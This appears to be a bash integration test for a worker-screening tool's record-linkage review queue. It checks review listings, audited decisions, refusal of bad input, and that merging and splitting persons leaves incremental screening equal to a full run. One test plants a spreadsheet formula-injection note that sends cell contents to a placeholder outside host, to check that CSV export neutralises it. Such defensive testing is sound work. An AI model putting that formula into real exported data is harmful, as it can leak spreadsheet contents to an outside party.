#!/usr/bin/env bash
# The clerical review queue from the command line, and what a decision does
# to the screening: `persons review` lists the pending pairs (csv and json),
# `persons decide` records a decision (audited, bad input refused with exit
# status 1 and nothing written); a "same" decision merges two workers'
# persons at the next link run, and a later "not-same" on that pair splits
# them again: the next incremental screening must re-check both workers, so
# that no alert keeps evidence of the other worker, and must leave exactly
# the alerts a full screening leaves.
. "$(dirname "$0")/lib.bash"
command -v sqlite3 > /dev/null || fail "sqlite3 is needed (scripts/install-deps.sh installs it)"
command -v python3 > /dev/null || fail "python3 is needed"
cd "$WORK"
# another world: TW_PERSONS_SEED, TW_PERSONS_WORLD (synth's world options)
SEED=${TW_PERSONS_SEED:-11}

# shellcheck disable=SC2086 # the world options are words
"$TW_BIN" synth --out syn --applications 2000 --seed "$SEED" ${TW_PERSONS_WORLD:-} > /dev/null
for f in permits border_crossings inspections reports outcomes; do
  "$TW_BIN" import --db t.db --progress none --quiet "syn/$f.csv" > /dev/null || fail "import $f"
done
"$TW_BIN" link --db t.db --quiet || fail "link"
"$TW_BIN" screen --db t.db --quiet || fail "screen"
expect_eq "$(sq t.db "SELECT count(*) FROM person_worker_change")" 0 \
  "a screening clears the workers the link run queued"

# ---- review: csv and json agree with the queue ----
pending=$(sq t.db "SELECT count(*) FROM link_review")
[ "$pending" -gt 0 ] || fail "the synthetic world has no review pair (seed $SEED)"
"$TW_BIN" persons review --db t.db --limit 100000 > review.csv 2> review.err || fail "review"
expect_eq "$(head -1 review.csv)" \
  "pair_id,record_a,record_b,weight,probability,name_a,name_b,birth_date_a,birth_date_b,document_a,document_b,citizenship_a,citizenship_b,sex_a,sex_b,evidence,decision,decided_by,decided_at,note" \
  "review csv header"
expect_eq "$(($(wc -l < review.csv) - 1))" "$pending" "review lists every pending pair"
grep -q "^persons review: $pending pairs pending" review.err || fail "review summary: $(cat review.err)"
"$TW_BIN" persons review --db t.db --limit 2 --format json > review.json 2> /dev/null ||
  fail "review json"
python3 - review.json << 'PY' || fail "review json: $(cat review.json)"
import json, sys
items = json.load(open(sys.argv[1]))
assert len(items) == 2, len(items)
for it in items:
    assert it["pair_id"] > 0 and ":" in it["record_a"] and ":" in it["record_b"]
    assert it["decision"] is None
    assert [f[0] for f in it["detail"]["items"]][:3] == ["given", "family", "date"], it["detail"]
    assert abs(it["detail"]["total"] - it["weight"]) < 0.01
    # side by side: each value of the two records as the register holds it
    for f in ("name", "birth_date", "document", "citizenship", "sex"):
        assert isinstance(it[f], list) and len(it[f]) == 2, (f, it[f])
    assert it["name"][0] and it["name"][1], it["name"]
# most uncertain first
assert abs(items[0]["weight"]) <= abs(items[1]["weight"]) + 1e-9
PY
expect_eq "$(sq t.db "SELECT count(*) FROM audit_log WHERE action = 'person.review.read'")" 2 \
  "each review listing is audited"

# ---- review: bad input ----
rc=0; "$TW_BIN" persons review --db t.db --limit 0 2> r1 || rc=$?
expect_eq "$rc" 1 "review --limit 0"
grep -q -- "--limit: '0' is not in 1..100000" r1 || fail "limit message: $(cat r1)"
rc=0; "$TW_BIN" persons review --db t.db --format xml 2> r2 || rc=$?
expect_eq "$rc" 1 "review --format xml"
rc=0; "$TW_BIN" persons review --db no-such.db 2> r3 || rc=$?
expect_eq "$rc" 1 "review of a database that does not exist"
grep -q "no such database" r3 || fail "missing database message: $(cat r3)"
[ ! -e no-such.db ] || fail "review created a database"
rc=0; "$TW_BIN" persons review --db t.db extra 2> r4 || rc=$?
expect_eq "$rc" 1 "review with an extra argument"

# ---- decide: bad input is refused, nothing written ----
first=$(sed -n 2p review.csv | cut -d, -f1)
rc=0; "$TW_BIN" persons decide --db t.db 999999 same --reason x 2> e1 || rc=$?
expect_eq "$rc" 1 "decide on an unknown pair"
grep -q "no review pair 999999" e1 || fail "unknown pair message: $(cat e1)"
rc=0; "$TW_BIN" persons decide --db t.db "$first" maybe --reason x 2> e2 || rc=$?
expect_eq "$rc" 1 "decide with an unknown decision"
grep -q "'maybe' is not same, not-same or unsure" e2 || fail "bad decision message: $(cat e2)"
rc=0; "$TW_BIN" persons decide --db t.db "$first" same 2> e3 || rc=$?
expect_eq "$rc" 1 "decide without --reason"
grep -q "needs --reason" e3 || fail "missing reason message: $(cat e3)"
rc=0; "$TW_BIN" persons decide --db t.db x7 same --reason r 2> e4 || rc=$?
expect_eq "$rc" 1 "decide with a pair id that is not a number"
rc=0; "$TW_BIN" persons decide --db t.db "$first" same --reason "$(head -c 1001 /dev/zero | tr '\0' r)" \
  2> e5 || rc=$?
expect_eq "$rc" 1 "decide with a reason over 1000 bytes"
expect_eq "$(sq t.db "SELECT count(*) FROM link_decision")" 0 "no decision after bad input"
expect_eq "$(sq t.db "SELECT count(*) FROM audit_log WHERE action = 'person.review'")" 0 \
  "no audit entry after bad input"

# ---- merge two workers by decision, then split them again ----
worker_of() { # RECORD -> worker id of a permit or border record ('' otherwise)
  case $1 in
  permits:*) sq t.db "SELECT worker_ref FROM permit WHERE row_key = '${1#permits:}' LIMIT 1" ;;
  border:*) sq t.db "SELECT worker_ref FROM border_crossing WHERE row_key = '${1#border:}' LIMIT 1" ;;
  esac
}
: > merged.tsv
tail -n +2 review.csv | cut -d, -f1-3 | tr ',' '\t' > pairs.tsv
while IFS=$'\t' read -r id a b; do
  wa=$(worker_of "$a"); wb=$(worker_of "$b")
  [ -n "$wa" ] && [ -n "$wb" ] && [ "$wa" != "$wb" ] || continue
  "$TW_BIN" persons decide --db t.db "$id" same --reason "same face on both photos" \
    --user reviewer1 > /dev/null || fail "decide same $id"
  printf '%s\t%s\t%s\n' "$id" "$wa" "$wb" >> merged.tsv
done < pairs.tsv
[ -s merged.tsv ] || fail "no review pair joins two workers (seed $SEED)"
expect_eq "$(sq t.db "SELECT decided_by FROM link_decision LIMIT 1")" reviewer1 "decided_by is --user"
# a note that a spreadsheet would run as a formula reaches the review CSV as
# text: csvout's neutralisation (a leading quote), whatever the cell holds
read -r fid _ < merged.tsv
"$TW_BIN" persons decide --db t.db "$fid" same --reason '=HYPERLINK("http://x.example/?"&A1,"open")' \
  --user reviewer1 > /dev/null || fail "decide with a formula note"
"$TW_BIN" persons review --db t.db --decided --limit 100000 > review_decided.csv ||
  fail "persons review --decided"
grep -q "^$fid,.*,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"open\"\")\"\$" review_decided.csv ||
  fail "the formula note is not neutralised: $(grep "^$fid," review_decided.csv)"
expect_eq "$(sq t.db "SELECT json_extract(detail, '$.by') FROM audit_log WHERE action =
                      'person.review' LIMIT 1")" reviewer1 "the audit entry names the reviewer"
"$TW_BIN" link --db t.db --quiet || fail "link after the decisions"
"$TW_BIN" screen --db t.db --incremental --quiet || fail "screen after the merges"

person_records() { # WORKER_ID -> the register ids of its person's records now
  sq t.db "SELECT substr(record, instr(record, ':') + 1) FROM person_record WHERE person_id =
           (SELECT person_id FROM person_worker WHERE worker_id = $1)"
}
# The open alerts of workers WA and WB whose evidence (the records each
# indicator read, not the coworkers a rolled-up hit names) holds records of
# both workers' persons as the last link run left them. An alert lowered to
# level none keeps the evidence it was last raised with (alerts.c: its
# history), so only alerts with a level are read.
mixed() { # WA WB -> alert ids
  local wa=$1 wb=$2 id
  person_records "$wa" > ra.txt
  person_records "$wb" > rb.txt
  for id in $(sq t.db "SELECT a.id FROM alert a JOIN worker w ON w.key = a.entity_key
                       WHERE a.entity_type = 'worker' AND a.closed = 0 AND a.level != 'none'
                       AND w.id IN ($wa, $wb)"); do
    sq t.db "SELECT evidence FROM alert WHERE id = $id" > ev.json
    python3 - ev.json ra.txt rb.txt << 'PY' && echo "$id"
import json, sys
ev = json.load(open(sys.argv[1]))
keys = {r["key"] for i in ev["indicators"] for r in i.get("records", [])}
ra = set(open(sys.argv[2]).read().split())
rb = set(open(sys.argv[3]).read().split())
sys.exit(0 if ra != rb and keys & ra and keys & rb else 1)
PY
  done
}
while IFS=$'\t' read -r id wa wb; do
  expect_eq "$(sq t.db "SELECT count(DISTINCT person_id) FROM person_worker
                        WHERE worker_id IN ($wa, $wb)")" 1 "pair $id: one person after 'same'"
done < merged.tsv

# Undo every merge ("not-same", link): the persons split again, and the
# alerts the last screening left are stale for their workers.
: > split.tsv
while IFS=$'\t' read -r id wa wb; do
  "$TW_BIN" persons decide --db t.db "$id" not-same --reason "birth dates differ on the passports" \
    --user reviewer2 > out.txt || fail "decide not-same $id"
  grep -q "not the same person" out.txt || fail "decide output: $(cat out.txt)"
  "$TW_BIN" link --db t.db > link.out 2>&1 || fail "link after not-same: $(cat link.out)"
  [ "$(sq t.db "SELECT count(DISTINCT person_id) FROM person_worker
                WHERE worker_id IN ($wa, $wb)")" = 2 ] || continue
  grep -q "[1-9][0-9]* split" link.out || fail "the link run reports the split: $(cat link.out)"
  queued=$(sq t.db "SELECT count(DISTINCT worker_id) FROM person_worker_change
                    WHERE worker_id IN ($wa, $wb)")
  expect_eq "$queued" 2 "the split of pair $id queues both workers for the screening"
  printf '%s\t%s\t%s\n' "$id" "$wa" "$wb" >> split.tsv
done < merged.tsv
[ -s split.tsv ] || fail "no 'not-same' split a person (seed $SEED)"
cp t.db full.db
"$TW_BIN" screen --db full.db --quiet || fail "full screen"
"$TW_BIN" alerts export --db t.db --format csv | cut -d, -f2-6 | sort > stale.csv
"$TW_BIN" alerts export --db full.db --format csv | cut -d, -f2-6 | sort > full.csv
keys=$(cut -f2,3 split.tsv | tr '\t' '\n' | sort -u | tr '\n' ',' | sed 's/,$//')
sq t.db "SELECT key FROM worker WHERE id IN ($keys)" | sed 's/^/worker,/; s/$/,/' > split_keys.txt
diff <(grep -Ff split_keys.txt stale.csv) <(grep -Ff split_keys.txt full.csv) > /dev/null &&
  fail "the splits change no split worker's alert (seed $SEED): nothing to test"
"$TW_BIN" screen --db t.db --incremental > screen.out || fail "incremental screen after the split"
grep -q "screen: incremental: 0 changed records and [1-9][0-9]* workers whose person changed" \
  screen.out || fail "the incremental screening reads the queue: $(cat screen.out)"
while IFS=$'\t' read -r id wa wb; do
  expect_eq "$(mixed "$wa" "$wb")" "" "after the split of pair $id no alert mixes the two persons"
done < split.tsv
expect_eq "$(sq t.db "SELECT count(*) FROM person_worker_change")" 0 "the queue is cleared"
# the same alerts as a full screening of the same store
"$TW_BIN" alerts export --db t.db --format csv | cut -d, -f2-6 | sort > inc.csv
diff inc.csv full.csv > /dev/null ||
  fail "incremental after the split differs from full: $(diff inc.csv full.csv | head -5)"
read -r id wa wb < split.tsv
# ---- a join the model made between two documents: disputed, then split ----
wsql() { # the worker of record column $1
  echo "CASE WHEN $1 LIKE 'permits:%' THEN (SELECT worker_ref FROM permit WHERE row_key = substr($1, 9) LIMIT 1)
             WHEN $1 LIKE 'border:%' THEN (SELECT worker_ref FROM border_crossing WHERE row_key = substr($1, 8) LIMIT 1) END"
}
join=$(sq t.db "SELECT a || char(9) || b || char(9) || wa || char(9) || wb FROM
                (SELECT a, b, $(wsql a) AS wa, $(wsql b) AS wb FROM person_join WHERE how = 'model')
                WHERE wa IS NOT NULL AND wb IS NOT NULL AND wa != wb ORDER BY a, b LIMIT 1")
[ -n "$join" ] || fail "the model joined no two documents (seed $SEED): nothing to dispute"
IFS=$'\t' read -r ja jb jwa jwb <<< "$join"
rc=0; "$TW_BIN" persons dispute --db t.db "$ja" "permits:NO-SUCH" 2> d1 || rc=$?
expect_eq "$rc" 1 "dispute of two records that are no link"
grep -q "are not a link of one person" d1 || fail "dispute message: $(cat d1)"
"$TW_BIN" persons dispute --db t.db "$jb" "$ja" --user reviewer3 > d2 || fail "dispute"
jid=$(sed -n 's/^pair \([0-9]*\): .*/\1/p' d2)
[ -n "$jid" ] || fail "dispute printed no pair: $(cat d2)"
"$TW_BIN" persons dispute --db t.db "$ja" "$jb" > d3 || fail "dispute again"
expect_eq "$(sed -n 's/^pair \([0-9]*\): .*/\1/p' d3)" "$jid" "a pair is queued once"
expect_eq "$(sq t.db "SELECT count(*) FROM audit_log WHERE action = 'person.review.add'
                      AND object = 'link_review:$jid'")" 2 "each dispute is audited"
"$TW_BIN" persons decide --db t.db "$jid" not-same --reason "two women, one name" > /dev/null ||
  fail "decide the disputed pair"
# disputing a decided pair reopens it: its decision cleared, back at the
# head of the queue, audited with the decision it had
"$TW_BIN" persons dispute --db t.db "$ja" "$jb" --user reviewer4 > d4 || fail "dispute the decided pair"
grep -q "^pair $jid: .* is reopened: its decision (not-same) is cleared" d4 || fail "reopen output: $(cat d4)"
expect_eq "$(sq t.db "SELECT count(*) FROM link_decision WHERE (a = '$ja' AND b = '$jb') OR (a = '$jb' AND b = '$ja')")" 0 \
  "the reopened pair's decision is cleared"
expect_eq "$("$TW_BIN" persons review --db t.db --limit 1 | sed -n 2p | cut -d, -f1)" "$jid" \
  "the reopened pair heads the queue"
expect_eq "$(sq t.db "SELECT json_extract(detail, '$.reopened') || ',' || json_extract(detail, '$.by') FROM audit_log
                      WHERE action = 'person.review.add' AND object = 'link_review:$jid' ORDER BY id DESC LIMIT 1")" \
  "not_same,reviewer4" "the reopening is audited with the decision it cleared"
"$TW_BIN" persons decide --db t.db "$jid" not-same --reason "two women, one name, again" > /dev/null ||
  fail "decide the reopened pair"
"$TW_BIN" link --db t.db --quiet || fail "link after the dispute"
[ "$(sq t.db "SELECT count(DISTINCT person_id) FROM person_record WHERE record IN ('$ja', '$jb')")" = 2 ] ||
  fail "the disputed records are still one person"
cp t.db full2.db
"$TW_BIN" screen --db t.db --incremental --quiet || fail "incremental screen after the dispute"
"$TW_BIN" screen --db full2.db --quiet || fail "full screen after the dispute"
diff <("$TW_BIN" alerts export --db t.db --format csv | cut -d, -f2-6 | sort) \
  <("$TW_BIN" alerts export --db full2.db --format csv | cut -d, -f2-6 | sort) > /dev/null ||
  fail "incremental after the disputed split differs from full"
expect_eq "$(mixed "$jwa" "$jwb")" "" "no alert mixes the two documents split by the dispute"

# a decision survives later runs: --full keeps the two apart
"$TW_BIN" link --db t.db --full --quiet || fail "link --full"
expect_eq "$(sq t.db "SELECT count(DISTINCT person_id) FROM person_worker
                      WHERE worker_id IN ($wa, $wb)")" 2 "not-same outlives a full run"
echo "persons_review: ok (seed $SEED, $(wc -l < split.tsv) splits)"
